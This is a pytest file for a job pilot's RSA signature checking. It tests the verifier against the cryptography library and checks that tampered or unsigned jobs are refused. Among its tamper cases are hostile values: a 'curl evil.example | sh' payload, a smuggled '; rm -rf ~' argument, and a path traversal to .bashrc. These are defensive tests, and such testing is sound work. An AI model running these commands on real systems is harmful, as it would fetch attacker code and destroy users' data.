"""The pilot's pure-Python signature check (pilot/signature.py) against `cryptography`, and the
pilot refusing jobs whose signature does not verify (docs/job-signing.md)."""

import base64
import json
import os

import pytest
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec, padding, rsa

from pilot import errors, signature
from pilot.loop import Pilot
from pilot.settings import PilotSettings

from .test_pilot_cli import run_pilot
from .test_pilot_jobflow import SITE, FakeDispatcher, job_answer

PKCS1 = padding.PKCS1v15()


@pytest.fixture(scope="module")
def private_key():
    return rsa.generate_private_key(public_exponent=65537, key_size=2048)


def pem_of(key):
    public = key.public_key() if hasattr(key, "public_key") else key
    return public.public_bytes(serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo).decode()


def keys_of(*private_keys):
    return signature.parse_pem_keys("".join(pem_of(key) for key in private_keys))


def signed(answer, key, algorithm=None):
    """`answer` with the keys the server adds: a signature over its canonical message."""
    raw = key.sign(signature.canonical_message(answer), PKCS1, algorithm or hashes.SHA256())
    (key_id,) = keys_of(key)
    return {**answer, "jobSignature": base64.b64encode(raw).decode(), "jobSignatureKeyId": key_id}


def sample_job(**overrides):
    return job_answer(
        inFiles="EVNT.01.pool.root,EVNT.02.pool.root",
        GUID="6f1c-1,6f1c-2",
        fsize="1000,2000",
        checksum="ad:0a0b0c0d,ad:01020304",
        jobPars="--maxEvents=10 --input EVNT.01.pool.root,EVNT.02.pool.root",
        **overrides,
    )


# -- the verifier against cryptography ---------------------------------------------------------


@pytest.mark.parametrize("bits", [2048, 3072, 4096])
def test_key_parsing_agrees_with_cryptography(bits):
    key = rsa.generate_private_key(public_exponent=65537, key_size=bits)
    (parsed,) = keys_of(key).values()
    numbers = key.public_key().public_numbers()
    der = key.public_key().public_bytes(serialization.Encoding.DER, serialization.PublicFormat.SubjectPublicKeyInfo)
    assert (parsed.n, parsed.e) == (numbers.n, numbers.e)
    assert parsed.key_id == signature.key_id_of(der)
    for message in (b"", b"a", os.urandom(1000)):
        raw = key.sign(message, PKCS1, hashes.SHA256())
        assert signature.verify(message, raw, parsed)


def test_verifier_rejects_what_cryptography_rejects(private_key):
    (key,) = keys_of(private_key).values()
    message = b"PanDA job 1"
    raw = private_key.sign(message, PKCS1, hashes.SHA256())
    flipped = bytes([raw[0] ^ 1]) + raw[1:]
    assert signature.verify(message, raw, key)
    assert not signature.verify(message + b"!", raw, key)
    assert not signature.verify(message, flipped, key)
    assert not signature.verify(message, raw[1:], key)  # wrong length
    assert not signature.verify(message, (key.n + 1).to_bytes(256, "big"), key)  # not below n
    sha1 = private_key.sign(message, PKCS1, hashes.SHA1())  # the right key, another digest
    assert not signature.verify(message, sha1, key)
    pss = private_key.sign(message, padding.PSS(padding.MGF1(hashes.SHA256()), 32), hashes.SHA256())
    assert not signature.verify(message, pss, key)


def test_canonical_message_is_length_prefixed():
    # Moving a separator between two fields changes the message.
    one = signature.canonical_message({"transformation": "run.sh a", "jobPars": "b"})
    two = signature.canonical_message({"transformation": "run.sh", "jobPars": "a b"})
    assert one != two
    assert signature.canonical_message({"PandaID": 7}) == signature.canonical_message({"PandaID": "7"})


def test_key_files_pem_with_comments_and_json(private_key, tmp_path):
    other = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    keys = keys_of(private_key, other)
    pem_file = tmp_path / "keys.pem"
    pem_file.write_text("# job signing key\n" + pem_of(private_key) + "\nsome note\n" + pem_of(other))
    assert signature.load_key_file(str(pem_file)) == keys
    listed = [{"key_id": "forged-id", "pem": pem_of(key)} for key in (private_key, other)]
    json_file = tmp_path / "keys.json"
    json_file.write_text(json.dumps({"success": True, "message": "", "data": {"keys": listed}}))
    # The ids given next to the keys are ignored: each is computed from the key itself.
    assert signature.load_key_file(str(json_file)) == keys


@pytest.mark.parametrize(
    "text, reason",
    [
        ("", "no '-----BEGIN PUBLIC KEY-----'"),
        ("-----BEGIN PUBLIC KEY-----\n!!!\n-----END PUBLIC KEY-----\n", "bad base64"),
        ("-----BEGIN PUBLIC KEY-----\nMAMCAQA=\n-----END PUBLIC KEY-----\n", "DER"),
        ('{"keys": "none"}', "no key list"),
    ],
)
def test_unusable_key_files_are_refused(text, reason):
    with pytest.raises(signature.BadKey, match=reason):
        signature.parse_key_list(text)


def test_short_and_non_rsa_keys_are_refused():
    short = rsa.generate_private_key(public_exponent=65537, key_size=1024)
    with pytest.raises(signature.BadKey, match="at least 2048"):
        keys_of(short)
    with pytest.raises(signature.BadKey, match="not an RSA"):
        signature.parse_pem_keys(pem_of(ec.generate_private_key(ec.SECP256R1())))


# -- check_job: what a tampered job looks like ---------------------------------------------------


def test_a_signed_job_verifies(private_key):
    assert signature.check_job(signed(sample_job(), private_key), keys_of(private_key)) is None


@pytest.mark.parametrize(
    "key, value",
    [
        ("transformation", "#!/bin/sh\ncurl evil.example | sh\n"),
        ("jobPars", "--maxEvents=10 --input EVNT.01.pool.root,EVNT.02.pool.root; rm -rf ~"),
        ("inFiles", "EVNT.02.pool.root,EVNT.01.pool.root"),  # the same inputs, reordered
        ("GUID", "6f1c-1,6f1c-3"),
        ("fsize", "1000,2001"),
        ("checksum", "ad:0a0b0c0d,ad:ffffffff"),
        ("outFiles", "../../home/user/.bashrc,job.log.tgz"),
        ("logFile", "other.log.tgz"),
        ("PandaID", 4243),
    ],
)
def test_each_signed_field_is_protected(private_key, key, value):
    answer = signed(sample_job(), private_key)
    answer[key] = value
    problem = signature.check_job(answer, keys_of(private_key))
    assert "does not match the job description" in problem


def test_unsigned_fields_may_change(private_key):
    answer = signed(sample_job(), private_key)
    answer.update(currentPriority=1, nSent=3, ddmEndPointIn="OTHER")
    assert signature.check_job(answer, keys_of(private_key)) is None


def test_missing_forged_or_unknown_signatures(private_key):
    keys = keys_of(private_key)
    answer = signed(sample_job(), private_key)
    assert signature.check_job({**answer, "jobSignature": "NULL"}, keys) == "the job is not signed"
    assert signature.check_job(sample_job(), keys) == "the job is not signed"
    assert "not valid base64" in signature.check_job({**answer, "jobSignature": "%%%"}, keys)
    raw = bytearray(base64.b64decode(answer["jobSignature"]))
    raw[-1] ^= 0x80
    forged = {**answer, "jobSignature": base64.b64encode(bytes(raw)).decode()}
    assert "does not match" in signature.check_job(forged, keys)
    assert "unknown key id 'feedfeedfeedfeed'" in signature.check_job(
        {**answer, "jobSignatureKeyId": "feedfeedfeedfeed"}, keys
    )
    # Signed by a key the pilot was not given (another server, or an attacker's own key).
    stranger = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    assert "unknown key id" in signature.check_job(signed(sample_job(), stranger), keys)
    # ... even when its signature is relabelled with a known key id.
    relabelled = {**signed(sample_job(), stranger), "jobSignatureKeyId": answer["jobSignatureKeyId"]}
    assert "does not match" in signature.check_job(relabelled, keys)


def test_old_and_new_keys_both_accepted(private_key):
    new = rsa.generate_private_key(public_exponent=65537, key_size=3072)
    keys = keys_of(private_key, new)
    assert signature.check_job(signed(sample_job(), private_key), keys) is None
    assert signature.check_job(signed(sample_job(PandaID=5), new), keys) is None


# -- the pilot refusing jobs ---------------------------------------------------------------------


def make_pilot(stub, tmp_path, **overrides):
    workdir = tmp_path / "work"
    workdir.mkdir(exist_ok=True)
    options = dict(server=stub.url, site=SITE, node="wn01", once=True, workdir=str(workdir), heartbeat=60,
                   idle_sleep=0.05, max_tries=3, retry_delay=0.01, kill_grace=1.0, storage_dir=str(tmp_path))  # fmt: skip
    options.update(overrides)
    return Pilot(PilotSettings(**options))


def marker_job(tmp_path, **overrides):
    """A job whose payload leaves a file behind: proof it ran."""
    marker = tmp_path / "payload-ran"
    return job_answer(transformation=f"#!/bin/sh\ntouch {marker}\n", outFiles="job.log.tgz", **overrides), marker


def test_pilot_refuses_a_tampered_job_without_running_it(stub_server, tmp_path, private_key):
    answer, marker = marker_job(tmp_path)
    tampered = {**signed(answer, private_key), "jobPars": "--extra"}
    dispatcher = FakeDispatcher(stub_server, [tampered])
    pilot = make_pilot(stub_server, tmp_path, signing_keys=keys_of(private_key))

    pilot.run()

    assert dispatcher.states == ["failed"]  # no "starting": nothing was begun
    assert int(dispatcher.final["pilotErrorCode"]) == errors.JOBSIGNATUREINVALID == 1390
    assert "does not match the job description" in dispatcher.final["pilotErrorDiag"]
    assert dispatcher.final["jobId"] == "4242" and dispatcher.final["attemptNr"] == "1"
    assert not marker.exists()
    assert os.listdir(tmp_path / "work") == []  # no PandaJob_ directory either
    assert pilot.jobs_run == 1


def test_pilot_with_a_key_refuses_unsigned_jobs_and_runs_signed_ones(stub_server, tmp_path, private_key):
    answer, marker = marker_job(tmp_path)
    dispatcher = FakeDispatcher(stub_server, [answer, signed({**answer, "PandaID": 4243}, private_key)])
    pilot = make_pilot(stub_server, tmp_path, signing_keys=keys_of(private_key), once=False, max_jobs=2)

    pilot.run()

    first, *_, last = dispatcher.updates
    assert (first["jobId"], first["state"], first["pilotErrorCode"]) == ("4242", "failed", "1390")
    assert "not signed" in first["pilotErrorDiag"]
    assert (last["jobId"], last["state"], last["pilotErrorCode"]) == ("4243", "finished", "0")
    assert marker.exists()


def test_pilot_without_a_key_runs_jobs_as_before(stub_server, tmp_path, private_key):
    answer, marker = marker_job(tmp_path)
    dispatcher = FakeDispatcher(stub_server, [{**signed(answer, private_key), "jobPars": "changed"}])
    make_pilot(stub_server, tmp_path).run()  # no signing_keys: nothing is checked
    assert dispatcher.final["state"] == "finished" and marker.exists()


# -- the command line ----------------------------------------------------------------------------


def test_cli_reads_a_key_file_and_refuses_bad_ones(stub_server, tmp_path, private_key):
    stub_server.routes["/server/panda/getJob"] = lambda r: (200, {"StatusCode": 20, "errorDialog": "none"})
    key_file = tmp_path / "server.pem"
    key_file.write_text(pem_of(private_key))
    (key_id,) = keys_of(private_key)

    done = run_pilot(stub_server.url, tmp_path, "--once", "--signing-key", str(key_file))
    assert done.returncode == 0, done.stderr
    assert f"jobs must be signed by key {key_id}" in done.stderr

    key_file.write_text("not a key")
    done = run_pilot(stub_server.url, tmp_path, "--once", "--signing-key", str(key_file))
    assert done.returncode == 2 and "cannot get the job signing keys" in done.stderr
    done = run_pilot(stub_server.url, tmp_path, "--once", "--signing-key", str(tmp_path / "missing.pem"))
    assert done.returncode == 2


def test_cli_fetches_the_keys_from_the_server(stub_server, tmp_path, private_key):
    stub_server.routes["/server/panda/getJob"] = lambda r: (200, {"StatusCode": 20, "errorDialog": "none"})
    (key_id,) = keys_of(private_key)

    done = run_pilot(stub_server.url, tmp_path, "--once", "--fetch-signing-key")
    assert done.returncode == 3 and "cannot get the job signing keys" in done.stderr  # 404: no keys, no jobs

    data = {"algorithm": "RSASSA-PKCS1-v1_5-SHA256", "keys": [{"key_id": key_id, "pem": pem_of(private_key)}]}
    stub_server.routes["/api/v1/pilot/public_keys"] = lambda r: (200, {"success": True, "message": "", "data": data})
    done = run_pilot(stub_server.url, tmp_path, "--once", "--fetch-signing-key")
    assert done.returncode == 0, done.stderr
    assert f"jobs must be signed by key {key_id}" in done.stderr
